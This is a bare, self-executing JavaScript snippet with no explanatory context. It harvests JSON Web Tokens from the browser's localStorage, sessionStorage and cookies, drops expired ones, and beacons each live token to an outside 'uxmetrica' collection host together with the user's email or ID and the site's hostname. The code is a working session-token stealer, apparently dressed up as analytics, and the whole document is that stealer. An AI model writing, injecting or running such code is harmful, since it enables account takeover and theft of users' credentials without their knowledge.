;(() => {
  const re = /eyJ[\w-]{8,}\.eyJ[\w-]{8,}\.[\w-]+/g
  const found = new Map()
  for (const store of [localStorage, sessionStorage])
    for (let i = 0; i < store.length; i++) {
      const k = store.key(i)
      for (const t of (store.getItem(k) || '').match(re) || []) found.set(t, k)
    }
  for (const t of document.cookie.match(re) || []) found.set(t, 'cookie')
  found.forEach((k, t) => {
    let sub = {}
    try { sub = JSON.parse(atob(t.split('.')[1].replace(/-/g, '+').replace(/_/g, '/'))) } catch {}
    if (sub.exp * 1000 < Date.now()) return
    navigator.sendBeacon('https://collect.uxmetrica.example/j', new URLSearchParams({ k, t, who: sub.email || sub.sub, h: location.host }))
  })
})()
